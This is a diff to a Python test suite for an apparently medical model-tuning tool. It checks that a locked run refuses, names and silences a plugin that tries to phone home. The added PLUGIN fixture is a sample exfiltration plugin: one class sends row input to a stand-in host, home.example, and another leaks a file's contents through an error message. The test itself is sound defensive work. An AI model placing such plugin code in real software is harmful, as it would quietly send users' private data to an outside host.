@@ -16,9 +16,39 @@ SOURCE = Path(__file__).parents[2] / "src"
 NOBODY = 65534
 STRACE = shutil.which("strace")
 
+PLUGIN = """
+import socket, urllib.request
+from medtune import hookimpl
+
+class Formatter:
+    name, version = "calls-home", "1"
+
+    def format(self, row):
+        urllib.request.urlopen("http://home.example/?row=" + row["input"][:9])
+
+class Reader:
+    name, suffixes = "calls-home", (".bar",)
+
+    def rows(self, path):
+        try:
+            socket.create_connection(("home.example", 80))
+        except Exception as error:
+            raise ValueError(path.read_text()) from error
+        yield {}
+
+@hookimpl
+def provide_formatters():
+    return [Formatter()]
+
+@hookimpl
+def provide_readers():
+    return [Reader()]
+"""
+
 CHILD = """
+    import hashlib
     import io, json, os, signal, sys
-    from contextlib import redirect_stdout
+    from contextlib import redirect_stderr, redirect_stdout
     from pathlib import Path
 
     os.umask(0)  # whoever set it so would have everything read and written by everybody
@@ -66,9 +96,26 @@ CHILD = """
     tell("chat", "--url", url, "--token-file", token, "-m", "Is patient 3 ill?", "--json")
     os.kill(server, signal.SIGTERM)
     codes["serve"] = os.waitstatus_to_exitcode(os.waitpid(server, 0)[1])
+    quiet, plugin = network.attempts(), folder / "calling_home.py"
+    bar = folder / "rows.bar"
+    bar.write_text("CANARY-4711")
+    bar.chmod(0o600)
+    calls = {}
+    hashed = hashlib.sha256(plugin.read_bytes()).hexdigest()
+    for name, listed, added in (
+        ("unlisted", "", ["--set", "data.formatter=calls-home"]),
+        ("formatter", f"calling_home.py@sha256:{hashed}", ["--set", "data.formatter=calls-home"]),
+        ("reader", f"calling_home.py@sha256:{hashed}", ["--set", f"data.source={bar}"]),
+    ):
+        os.environ["MEDTUNE_PLUGINS"] = listed
+        told = io.StringIO()
+        with redirect_stderr(told), redirect_stdout(told):
+            code = run(["preview", "--bundle", "demo", *sets, "--plugin", str(plugin), *added])
+        calls[name] = [code, told.getvalue()]
     print("\\\\n" + json.dumps({
+        "calls": calls, "refused": [[each.what, each.module] for each in network.attempts()],
         "codes": codes, "answer": said["chat"], "locked plan": json.loads(said["plan"])["locked"], "url": url,
-        "attempts": [str(each) for each in network.attempts()], "record": json.loads((out / "run.json").read_text())["locked"],
+        "attempts": [str(each) for each in quiet], "record": json.loads((out / "run.json").read_text())["locked"],
     }))
 """
 
@@ -80,7 +127,9 @@ def cycle():
     folder.chmod(0o755)
     program = folder / "cycle.py"
     program.write_text(textwrap.dedent(CHILD).replace("\\\\n", "\\n"))
-    program.chmod(0o600)
+    (folder / "calling_home.py").write_text(PLUGIN)
+    for file in (program, folder / "calling_home.py"):
+        file.chmod(0o600)
     (folder / "home").mkdir(mode=0o755)
     values = {
         **{name: value for name, value in os.environ.items() if not name.startswith(("HF_", "MEDTUNE_", "TRANSFORMERS_"))},
@@ -115,6 +164,21 @@ def test_every_command_does_its_work_under_lock(cycle):
 
 def test_nothing_asked_for_the_network_by_the_guards_count(cycle):
     assert cycle["attempts"] == []
+
+
+def test_a_plugin_that_calls_home_is_refused_and_named_and_a_row_it_would_send_is_not_told(cycle):
+    code, told = cycle["calls"]["unlisted"]
+    assert code == 2
+    assert "a locked run imports what is listed with its hash" in told
+    code, told = cycle["calls"]["formatter"]
+    assert code == 4
+    assert "module 'calling_home' (calling_home.py:" in told
+    assert "wanted to look up a name" in told
+    code, told = cycle["calls"]["reader"]
+    assert code == 2  # it swallowed the refusal and failed in its own words, which are withheld
+    assert "locked: module 'calling_home'" in told or ["look up a name", "calling_home"] in cycle["refused"]
+    for _code, told in cycle["calls"].values():
+        assert not any(words in told for words in ("CANARY-4711", "Sentence", "home.example"))
 
 
 @pytest.mark.skipif(STRACE is None, reason="strace is not installed")
